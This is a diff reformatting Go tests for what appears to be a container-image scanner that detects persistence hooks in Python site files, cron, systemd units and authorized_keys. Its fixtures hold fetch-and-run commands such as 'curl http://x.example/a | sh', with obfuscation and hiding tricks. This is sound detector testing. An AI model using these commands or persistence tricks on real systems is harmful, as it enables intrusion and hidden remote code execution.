@@ -28,21 +28,69 @@ func TestDisguisedHooks(t *testing.T) {
 		members []member
 		want    string
 	}{
-		"a byte order mark":               {[]member{file(site+"/a.pth", "\ufeff"+evil)}, "high python-pth /" + site + "/a.pth"},
-		"a carriage return":               {[]member{file(site+"/a.pth", "# x\r"+evil)}, "high python-pth /" + site + "/a.pth"},
-		"a line that is long":             {[]member{file(site+"/a.pth", "import os;"+strings.Repeat(" ", 20<<10)+evil)}, "high python-pth /" + site + "/a.pth"},
-		"a package":                       {[]member{file(site+"/sitecustomize/__init__.py", evil)}, "high python-site /" + site + "/sitecustomize/__init__.py"},
-		"a library":                       {[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", library)}, "low python-site /" + site + "/sitecustomize.cpython-313-x86_64-linux-gnu.so"},
-		"compiled":                        {[]member{file(site+"/usercustomize.pyc", "\xcb\r\r\n")}, "low python-site /" + site + "/usercustomize.pyc"},
-		"a directory that a .pth adds":    {[]member{file(site+"/a.pth", "/opt/x\n"), file("opt/x/sitecustomize.py", evil)}, "high python-site /opt/x/sitecustomize.py"},
-		"a directory beside the .pth":     {[]member{file(site+"/a.pth", "x\n"), file(site+"/x/usercustomize.py", evil)}, "high python-site /" + site + "/x/usercustomize.py"},
-		"a zero byte":                     {[]member{file("etc/cron.daily/x", "#!/bin/sh\n# \x00\n"+fetch)}, "high cron /etc/cron.daily/x"},
-		"zero bytes in the words":         {[]member{file("etc/cron.daily/x", "#!/bin/sh\ncu\x00rl -s http://x.example/a | s\x00h\n")}, "high cron /etc/cron.daily/x"},
-		"a script behind much text":       {[]member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", 8<<10)+"/opt/x.sh\n"), exe("opt/x.sh", "#!/bin/sh\n"+fetch)}, "high cron /etc/cron.daily/x"},
-		"a directory of jobs that is one": {[]member{file("opt/c/x", fetch), symlink("etc/cron.hourly", "/opt/c")}, "high cron /etc/cron.hourly/x"},
-		"a directory of keys that is one": {[]member{file("opt/k/authorized_keys", "ssh-ed25519 A me@host"), symlink("root/.ssh", "/opt/k")}, "medium authorized-keys /root/.ssh/authorized_keys"},
-		"what adds to a unit":             {[]member{file("lib/systemd/system/y.service.d/o.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\n")}, "high unit /lib/systemd/system/y.service.d/o.conf"},
-		"a unit that a target wants":      {[]member{file("opt/y", "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n"), symlink("etc/systemd/system/multi-user.target.wants/y.service", "/opt/y")}, "high unit /etc/systemd/system/multi-user.target.wants/y.service"},
+		"a byte order mark": {
+			[]member{file(site+"/a.pth", "\ufeff"+evil)}, "high python-pth /" + site + "/a.pth",
+		},
+		"a carriage return": {
+			[]member{file(site+"/a.pth", "# x\r"+evil)}, "high python-pth /" + site + "/a.pth",
+		},
+		"a line that is long": {
+			[]member{file(site+"/a.pth", "import os;"+strings.Repeat(" ", 20<<10)+evil)},
+			"high python-pth /" + site + "/a.pth",
+		},
+		"a package": {
+			[]member{file(site+"/sitecustomize/__init__.py", evil)},
+			"high python-site /" + site + "/sitecustomize/__init__.py",
+		},
+		"a library": {
+			[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", library)},
+			"low python-site /" + site + "/sitecustomize.cpython-313-x86_64-linux-gnu.so",
+		},
+		"compiled": {
+			[]member{file(site+"/usercustomize.pyc", "\xcb\r\r\n")}, "low python-site /" + site + "/usercustomize.pyc",
+		},
+		"a directory that a .pth adds": {
+			[]member{file(site+"/a.pth", "/opt/x\n"), file("opt/x/sitecustomize.py", evil)},
+			"high python-site /opt/x/sitecustomize.py",
+		},
+		"a directory beside the .pth": {
+			[]member{file(site+"/a.pth", "x\n"), file(site+"/x/usercustomize.py", evil)},
+			"high python-site /" + site + "/x/usercustomize.py",
+		},
+		"a zero byte": {
+			[]member{file("etc/cron.daily/x", "#!/bin/sh\n# \x00\n"+fetch)}, "high cron /etc/cron.daily/x",
+		},
+		"zero bytes in the words": {
+			[]member{file("etc/cron.daily/x", "#!/bin/sh\ncu\x00rl -s http://x.example/a | s\x00h\n")},
+			"high cron /etc/cron.daily/x",
+		},
+		"a script behind much text": {
+			[]member{
+				file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", 8<<10)+"/opt/x.sh\n"),
+				exe("opt/x.sh", "#!/bin/sh\n"+fetch),
+			},
+			"high cron /etc/cron.daily/x",
+		},
+		"a directory of jobs that is one": {
+			[]member{file("opt/c/x", fetch), symlink("etc/cron.hourly", "/opt/c")}, "high cron /etc/cron.hourly/x",
+		},
+		"a directory of keys that is one": {
+			[]member{file("opt/k/authorized_keys", "ssh-ed25519 A me@host"), symlink("root/.ssh", "/opt/k")},
+			"medium authorized-keys /root/.ssh/authorized_keys",
+		},
+		"what adds to a unit": {
+			[]member{
+				file("lib/systemd/system/y.service.d/o.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\n"),
+			},
+			"high unit /lib/systemd/system/y.service.d/o.conf",
+		},
+		"a unit that a target wants": {
+			[]member{
+				file("opt/y", "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n"),
+				symlink("etc/systemd/system/multi-user.target.wants/y.service", "/opt/y"),
+			},
+			"high unit /etc/systemd/system/multi-user.target.wants/y.service",
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, []string{test.want}) {
@@ -54,7 +102,11 @@ func TestDisguisedHooks(t *testing.T) {
 
 // A link to a directory whose files are hooks by their own paths adds no second row.
 func TestALinkToADirectoryOfHooksIsNoSecondRow(t *testing.T) {
-	c := inspected(t, image{members: []member{file("etc/cron.daily/x", fetch), symlink("etc/cron.weekly", "/etc/cron.daily")}}, nil)
+	c := inspected(
+		t,
+		image{members: []member{file("etc/cron.daily/x", fetch), symlink("etc/cron.weekly", "/etc/cron.daily")}},
+		nil,
+	)
 	if got := listed(c); !slices.Equal(got, []string{"high cron /etc/cron.daily/x"}) {
 		t.Errorf("got %q", got)
 	}
@@ -68,14 +120,21 @@ func TestMoreTextThanIsReadIsSaid(t *testing.T) {
 		members = append(members, file(fmt.Sprintf("app/node_modules/m%d/package.json", i), text))
 	}
 	c := inspected(t, image{members: append(members, file("etc/cron.daily/x", "#!/bin/sh\n"+fetch))}, nil)
-	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked || !strings.Contains(s.Reason, "not read") {
+	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked ||
+		!strings.Contains(s.Reason, "not read") {
 		t.Errorf("check %+v", s)
 	}
 }
 
 // A hook that is longer than what is read of it does not pass for one that was looked through.
 func TestALongHookIsSaidToBeCut(t *testing.T) {
-	c := inspected(t, image{members: []member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", MaxText/8)+fetch)}}, nil)
+	c := inspected(
+		t,
+		image{
+			members: []member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", MaxText/8)+fetch)},
+		},
+		nil,
+	)
 	if r := rowOf(t, c, KindCron); !strings.Contains(r.Detail, "only its first") {
 		t.Errorf("detail %q", r.Detail)
 	}
@@ -84,7 +143,9 @@ func TestALongHookIsSaidToBeCut(t *testing.T) {
 // A variable may name as many libraries as fit into a config, and come as often: the directories of the loader are read
 // once, and the names beyond the bound are not passed over in silence.
 func TestManyPreloadedLibrariesAreBounded(t *testing.T) {
-	config := v1.Config{Env: []string{"LD_PRELOAD=" + strings.Repeat("a:", 200_000), "LD_AUDIT=" + strings.Repeat("b ", 200_000)}}
+	config := v1.Config{
+		Env: []string{"LD_PRELOAD=" + strings.Repeat("a:", 200_000), "LD_AUDIT=" + strings.Repeat("b ", 200_000)},
+	}
 	began := time.Now()
 	c := inspected(t, image{config: config}, nil)
 	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked {
@@ -127,7 +188,12 @@ func TestLibrariesThatEveryProgramLoads(t *testing.T) {
 	tree := treeOf(t, imageOf(t, v1.Config{}, base, step("RUN x", members...)))
 	own, err := owner.NewCache().Of(t.Context(), tree)
 	must(t, err)
-	found := Preloads(t.Context(), tree, own, []string{"LD_PRELOAD=/opt/env.so:/usr/bin/ls", "LD_AUDIT=/none.so", "OTHER=/opt/env.so"})
+	found := Preloads(
+		t.Context(),
+		tree,
+		own,
+		[]string{"LD_PRELOAD=/opt/env.so:/usr/bin/ls", "LD_AUDIT=/none.so", "OTHER=/opt/env.so"},
+	)
 	got := map[string]string{}
 	for n, by := range found {
 		got[n.Path] = by
